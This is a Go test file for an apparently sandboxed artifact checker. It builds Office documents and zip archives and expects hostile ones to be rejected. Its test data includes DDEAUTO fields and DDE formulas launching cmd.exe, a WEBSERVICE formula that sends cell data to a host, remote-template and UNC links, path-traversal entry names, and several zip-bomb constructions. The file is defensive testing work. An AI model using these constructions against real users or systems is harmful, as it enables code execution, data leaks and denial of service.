package artifact

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/airlock-sandbox/airlock/sandbox"
)

// zent is one entry of a test archive.
type zent struct {
	name   string
	data   []byte
	method uint16
	flags  uint16
}

// buildZip writes a real zip with archive/zip.
func buildZip(t testing.TB, entries ...zent) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		method := e.method
		if method == 0 {
			method = zip.Deflate
		}
		w, err := zw.CreateHeader(&zip.FileHeader{Name: e.name, Method: method, Flags: e.flags})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write(e.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

const (
	typesDocx = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	typesXlsx = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`
	typesXlsm = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>`
	rootRels  = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`
)

// docx builds a minimal document whose body is the given WordprocessingML.
func docx(t testing.TB, body string, extra ...zent) []byte {
	doc := `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>` + body + `</w:body></w:document>`
	return buildZip(t, append([]zent{
		{name: "[Content_Types].xml", data: []byte(typesDocx)},
		{name: "_rels/.rels", data: []byte(rootRels)},
		{name: "word/document.xml", data: []byte(doc)},
	}, extra...)...)
}

// xlsx builds a minimal workbook with one sheet holding the given cells.
func xlsx(t testing.TB, cells string, extra ...zent) []byte {
	sheet := `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">` + cells + `</row></sheetData></worksheet>`
	return buildZip(t, append([]zent{
		{name: "[Content_Types].xml", data: []byte(typesXlsx)},
		{name: "xl/workbook.xml", data: []byte(`<workbook><sheets><sheet name="S" sheetId="1"/></sheets></workbook>`)},
		{name: "xl/worksheets/sheet1.xml", data: []byte(sheet)},
	}, extra...)...)
}

// rels is a relationships part with one relationship.
func rels(typ, target, mode string) []byte {
	return fmt.Appendf(nil, `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/></Relationships>`, typ, target, mode)
}

// overlapZip makes entries a, b and c whose central records all point at
// one local header and one compressed stream.
func overlapZip(t testing.TB) []byte {
	data := buildZip(t, zent{name: "a.txt", data: make([]byte, 1<<20)})
	eocd := data[len(data)-22:]
	size, off := binary.LittleEndian.Uint32(eocd[12:]), binary.LittleEndian.Uint32(eocd[16:])
	rec := data[off : off+size]
	var cd []byte
	for _, n := range []string{"a.txt", "b.txt", "c.txt"} {
		cd = append(cd, bytes.Replace(rec, []byte("a.txt"), []byte(n), 1)...)
	}
	end := bytes.Clone(eocd)
	binary.LittleEndian.PutUint16(end[8:], 3)
	binary.LittleEndian.PutUint16(end[10:], 3)
	binary.LittleEndian.PutUint32(end[12:], uint32(len(cd)))
	out := append(bytes.Clone(data[:off]), cd...)
	return append(out, end...)
}

// manyEntries makes n tiny entries.
func manyEntries(n int) []zent {
	out := make([]zent, n)
	for i := range out {
		out[i] = zent{name: fmt.Sprintf("%d.txt", i), data: []byte("x"), method: zip.Store}
	}
	return out
}

// lyingZip stores data in one entry whose central directory claims 100
// bytes.
func lyingZip(t testing.TB, data []byte) []byte {
	z := buildZip(t, zent{name: "z.txt", data: data})
	eocd := z[len(z)-22:]
	off := binary.LittleEndian.Uint32(eocd[16:])
	binary.LittleEndian.PutUint32(z[off+24:], 100)
	return z
}

// checkBytes runs Check on data named name.
func checkBytes(t testing.TB, name string, data []byte, p sandbox.ArtifactPolicy) sandbox.Artifact {
	t.Helper()
	out := &memOutput{}
	a, err := Check(context.Background(), name, bytes.NewReader(data), int64(len(data)), out, p)
	if err != nil {
		t.Fatal(err)
	}
	if a.Verdict != sandbox.VerdictRejected && int64(out.Len()) != a.Size {
		t.Fatalf("size %d but %d bytes written", a.Size, out.Len())
	}
	return a
}

func TestZipRules(t *testing.T) {
	zeros := make([]byte, 10<<20)
	text := bytes.Repeat([]byte("a"), 10<<20)
	base := testPolicy()
	small := base
	small.MaxArchiveEntries = 10
	lenient := base
	lenient.MaxArchiveRatio = 100000
	lenient.MaxArchiveBytes = 30 << 20
	nested := buildZip(t, zent{name: "inner.zip", data: buildZip(t, zent{name: "z.txt", data: zeros})})
	deep := buildZip(t, zent{name: "a.txt", data: []byte("x")})
	for range maxNesting {
		deep = buildZip(t, zent{name: "d.zip", data: deep})
	}
	many := make([]zent, 20)
	for i := range many {
		many[i] = zent{name: fmt.Sprintf("f%02d.txt", i), data: []byte("x")}
	}
	ole := append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 504)...)
	tests := []struct {
		name   string
		file   string
		data   []byte
		p      sandbox.ArtifactPolicy
		want   string // verdict
		reason string // substring of the reason
		mime   string
	}{
		{name: "clean docx", file: "r.docx", data: docx(t, `<w:p><w:r><w:t>hello</w:t></w:r></w:p>`), want: "accepted", mime: extTypes["docx"].mime},
		{name: "clean xlsx with formulas", file: "r.xlsx", data: xlsx(t, `<c r="A1"><f>SUM(B1:B3)</f></c><c><f>'a|b'!A1&amp;"x|y"</f></c>`), want: "accepted", mime: extTypes["xlsx"].mime},
		{name: "docx with vbaProject.bin", file: "m.docx", data: docx(t, ``, zent{name: "word/vbaProject.bin", data: []byte("x")}), want: "rejected", reason: "macro project"},
		{name: "xlsm renamed xlsx", file: "m.xlsx", data: buildZip(t, zent{name: "[Content_Types].xml", data: []byte(typesXlsm)}, zent{name: "xl/workbook.xml", data: []byte("<workbook/>")}), want: "rejected", reason: "macro"},
		{name: "macro sheet", file: "m.xlsx", data: xlsx(t, ``, zent{name: "xl/macrosheets/sheet1.xml", data: []byte("<x/>")}), want: "rejected", reason: "Excel 4.0 macro sheet"},
		{name: "activex", file: "a.docx", data: docx(t, ``, zent{name: "word/activeX/activeX1.xml", data: []byte("<x/>")}), want: "rejected", reason: "ActiveX"},
		{name: "external workbook link", file: "e.xlsx", data: xlsx(t, ``, zent{name: "xl/externalLinks/externalLink1.xml", data: []byte("<externalLink><ddeLink/></externalLink>")}), want: "rejected", reason: "external workbook"},
		{name: "remote template", file: "t.docx", data: docx(t, ``, zent{name: "word/_rels/settings.xml.rels", data: rels("attachedTemplate", "https://e.x/t.dotm", "External")}), want: "rejected", reason: "external relationship attachedTemplate"},
		{name: "hyperlink stays", file: "h.docx", data: docx(t, ``, zent{name: "word/_rels/document.xml.rels", data: rels("hyperlink", "https://example.com/", "External")}), want: "accepted"},
		{name: "unc image", file: "u.docx", data: docx(t, ``, zent{name: "word/_rels/document.xml.rels", data: rels("image", `\\host\share\a.png`, "External")}), want: "rejected", reason: "external relationship image"},
		{name: "ddeauto simple field", file: "d.docx", data: docx(t, `<w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;"/>`), want: "rejected", reason: "DDE field"},
		{name: "dde split over runs", file: "d.docx", data: docx(t, `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO "c:\\x.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`), want: "rejected", reason: "DDE field"},
		{name: "field type from nested field", file: "d.docx", data: docx(t, `<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> "c:\\x.exe"</w:instrText><w:fldChar w:fldCharType="end"/>`), want: "rejected", reason: "nested field"},
		{name: "page field stays", file: "p.docx", data: docx(t, `<w:fldSimple w:instr=" PAGE \* MERGEFORMAT "/>`), want: "accepted"},
		{name: "dde formula", file: "f.xlsx", data: xlsx(t, `<c><f>cmd|' /C calc'!A0</f></c>`), want: "rejected", reason: "DDE formula"},
		{name: "webservice formula", file: "f.xlsx", data: xlsx(t, `<c><f>_xlfn.WEBSERVICE("http://e.x/?"&amp;A1)</f></c>`), want: "rejected", reason: "WEBSERVICE"},
		{name: "embedded ole object", file: "o.docx", data: docx(t, ``, zent{name: "word/embeddings/oleObject1.bin", data: ole}), want: "rejected", reason: "OLE2"},
		{name: "embedded macro workbook", file: "n.docx", data: docx(t, ``, zent{name: "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data: buildZip(t, zent{name: "[Content_Types].xml", data: []byte(typesXlsm)})}), want: "rejected", reason: "macro"},
		{name: "ole2 renamed xlsx", file: "legacy.xlsx", data: ole, want: "rejected", reason: "OLE2"},
		{name: "plain zip as xlsx", file: "z.xlsx", data: buildZip(t, zent{name: "a.txt", data: []byte("hi")}), want: "accepted", reason: "content is application/zip", mime: "application/zip"},
		{name: "clean zip", file: "data.zip", data: buildZip(t, zent{name: "d/"}, zent{name: "d/a.csv", data: []byte("a,-1\n")}, zent{name: "b.json", data: []byte("{}")}), want: "accepted", mime: "application/zip"},
		{name: "zip with formula csv", file: "data.zip", data: buildZip(t, zent{name: "a.csv", data: []byte("=1+1\n")}), want: "rejected", reason: "would need sanitizing"},
		{name: "zip with script html", file: "data.zip", data: buildZip(t, zent{name: "a.html", data: []byte("<script>x</script>")}), want: "rejected", reason: "active content"},
		{name: "zip with exe", file: "data.zip", data: buildZip(t, zent{name: "a.exe", data: []byte("MZ")}), want: "rejected", reason: "extension .exe"},
		{name: "zip with elf named csv", file: "data.zip", data: buildZip(t, zent{name: "a.csv", data: []byte("\x7fELF\x02\x01")}), want: "rejected", reason: "program"},
		{name: "dotdot entry", file: "e.zip", data: buildZip(t, zent{name: "../evil.txt", data: []byte("x")}), want: "rejected", reason: "refers to a folder itself"},
		{name: "absolute entry", file: "e.zip", data: buildZip(t, zent{name: "/etc/evil.txt", data: []byte("x")}), want: "rejected", reason: "absolute"},
		{name: "backslash entry", file: "e.zip", data: buildZip(t, zent{name: `..\evil.txt`, data: []byte("x")}), want: "rejected", reason: "backslash"},
		{name: "drive entry", file: "e.zip", data: buildZip(t, zent{name: `C:/evil.txt`, data: []byte("x")}), want: "rejected", reason: "drive letter"},
		{name: "nul entry", file: "e.zip", data: buildZip(t, zent{name: "a\x00.txt", data: []byte("x")}), want: "rejected", reason: "NUL"},
		{name: "duplicate entry", file: "e.zip", data: buildZip(t, zent{name: "a.txt", data: []byte("x")}, zent{name: "A.txt", data: []byte("y")}), want: "rejected", reason: "twice"},
		{name: "encrypted entry", file: "e.zip", data: buildZip(t, zent{name: "a.txt", data: []byte("x"), flags: 1}), want: "rejected", reason: "encrypted"},
		{name: "ratio bomb", file: "b.zip", data: buildZip(t, zent{name: "z.txt", data: zeros}), want: "rejected", reason: "expands more than 100:1"},
		{name: "total bytes bomb", file: "b.zip", p: lenient, data: buildZip(t, zent{name: "1.txt", data: text}, zent{name: "2.txt", data: text}, zent{name: "3.txt", data: text}, zent{name: "4.txt", data: text}), want: "rejected", reason: "per archive"},
		// archive/zip itself stops an entry at its declared size.
		{name: "lying sizes", file: "l.zip", data: lyingZip(t, zeros), want: "rejected", reason: "not a valid zip file"},
		{name: "overlapping bomb", file: "o.zip", p: lenient, data: overlapZip(t), want: "rejected", reason: "share data"},
		{name: "nested bomb", file: "n.zip", data: nested, want: "rejected", reason: "entry inner.zip: entry z.txt: declares 10485760 bytes: expands more than 100:1"},
		{name: "too deep", file: "deep.zip", data: deep, want: "rejected", reason: "nested more than 3 deep"},
		{name: "entry cap", file: "m.zip", p: small, data: buildZip(t, many...), want: "rejected", reason: "20 entries, over the cap of 10"},
		{name: "directory budget", file: "m.zip", p: small, data: buildZip(t, manyEntries(2000)...), want: "rejected", reason: "central directory is larger"},
		{name: "not a zip", file: "x.zip", data: []byte("PK\x03\x04garbage"), want: "rejected", reason: "not a valid zip"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := tt.p
			if p.MaxFiles == 0 {
				p = base
			}
			a := checkBytes(t, tt.file, tt.data, p)
			if a.Verdict != tt.want || !strings.Contains(a.Reason, tt.reason) {
				t.Fatalf("got %s (%s), want %s with %q", a.Verdict, a.Reason, tt.want, tt.reason)
			}
			if tt.mime != "" && a.MIME != tt.mime {
				t.Errorf("mime = %s, want %s", a.MIME, tt.mime)
			}
		})
	}
}

func TestZipEntryCapByCount(t *testing.T) {
	// Records that fit the directory budget but exceed the entry count.
	p := testPolicy()
	p.MaxArchiveEntries = 300
	a := checkBytes(t, "m.zip", buildZip(t, manyEntries(301)...), p)
	if a.Verdict != "rejected" || !strings.Contains(a.Reason, "entries") {
		t.Fatalf("got %s (%s)", a.Verdict, a.Reason)
	}
}

func FuzzZip(f *testing.F) {
	f.Add(buildZip(f, zent{name: "a.csv", data: []byte("a,b\n")}))
	f.Add(docx(f, `<w:fldSimple w:instr="DDE x"/>`))
	f.Add(overlapZip(f))
	p := testPolicy()
	p.MaxArchiveBytes = 64 << 20
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, name := range []string{"f.zip", "f.docx"} {
			a := checkBytes(t, name, data, p)
			if a.Verdict == "" {
				t.Fatal("no verdict")
			}
		}
	})
}

func TestEntryReaderCap(t *testing.T) {
	er := &entryReader{r: bytes.NewReader(make([]byte, 3000)), left: 1000, why: "cap"}
	n, err := io.Copy(io.Discard, er)
	if !errors.Is(err, errEntryCap) || n > 1000 || er.read != 1000 {
		t.Fatalf("copied %d, read %d, err %v", n, er.read, err)
	}
	er = &entryReader{r: bytes.NewReader(make([]byte, 1000)), left: 1000}
	if n, err := io.Copy(io.Discard, er); err != nil || n != 1000 {
		t.Fatalf("exact size: %d %v", n, err)
	}
}
